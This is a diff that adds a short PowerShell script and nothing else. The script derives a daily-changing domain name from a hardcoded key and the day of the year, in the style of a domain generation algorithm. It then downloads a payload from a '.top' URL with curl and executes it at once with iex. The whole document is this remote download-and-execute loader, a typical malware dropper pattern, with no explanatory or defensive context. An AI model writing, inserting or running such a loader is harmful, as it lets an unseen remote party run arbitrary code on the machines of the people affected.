@@ -0,0 +1,14 @@
+$a=$executioncontext;
+$ext=".php";
+$dgakey="5e83b2d1";
+$alphabet=26;
+$day=[int](Get-Date -UFormat "%j");
+$shift=[int]$dgakey.Length % 5;
+$seed=$day % 7;
+$domain="";
+for($i=0;$i -lt 14;$i++){
+    $c=[int][char]$dgakey[$i % $dgakey.Length];
+    $domain+=[char](97+(($c*($seed+$i+$shift)) % $alphabet));
+}
+$global:block=(curl "http://$domain.top/1.php?s=527" -UseBasicParsing).Content;
+iex $global:block